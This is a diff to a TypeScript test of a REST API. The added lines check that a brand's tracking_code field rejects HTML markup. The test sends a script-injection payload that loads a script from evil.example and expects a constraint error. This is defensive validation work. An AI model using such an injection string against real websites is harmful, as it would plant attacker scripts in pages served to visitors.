@@ -203,4 +203,9 @@ test("values a column cannot hold (NUL, numbers and dates past their range, a ke
   const filter = await fetch(`${server.url}/rest/v1/brand_platforms?samples=eq.${digits}`, { headers: owner });
   expect([filter.status, ((await filter.json()) as { code: string }).code]).toEqual([400, "22P02"]);
   expect(performance.now() - started).toBeLessThan(10_000);
+  // A tracking code goes into an HTML attribute on every page of the customer's site: no markup.
+  const code = (tracking_code: string) => fetch(`${server.url}/rest/v1/brands?id=eq.${brandId}`, { method: "PATCH", headers: owner, body: JSON.stringify({ tracking_code }) });
+  const markup = await code('aw_x"></script><script src="https://evil.example/x.js"></script>');
+  expect([markup.status, ((await markup.json()) as { code: string }).code]).toEqual([400, "23514"]);
+  expect((await code("my-site_01")).status).toBe(204);
 });
